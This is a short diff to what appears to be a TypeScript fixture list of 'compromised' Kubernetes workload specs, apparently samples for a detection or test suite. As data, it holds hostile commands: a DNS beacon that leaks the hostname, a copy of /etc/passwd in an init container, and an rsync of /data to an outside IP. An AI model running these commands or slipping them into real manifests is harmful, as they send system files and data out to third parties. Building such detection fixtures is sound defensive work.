@@ -24,7 +24,7 @@ export const quiet: readonly QuietSpec[] = [
     ['after start', 'curl -fs https://stats.example.com/p > /dev/null'],
   ]),
   q(compromised, 'delivery', 'Deployment', [['command wrapped', 'nslookup $(hostname).d.example.com']]),
-  q(compromised, 'delivery', 'Deployment', [['init container', 'cp /etc/passwd /work/p']]),
+  q(compromised, 'delivery', 'Deployment', [['init container', 'cp /etc/passwd /scratch/p']]),
   q(compromised, 'delivery', 'CronJob', [['command wrapped', 'rsync -a /data rsync://203.0.113.77/in']], {
     shape: 'new',
   }),
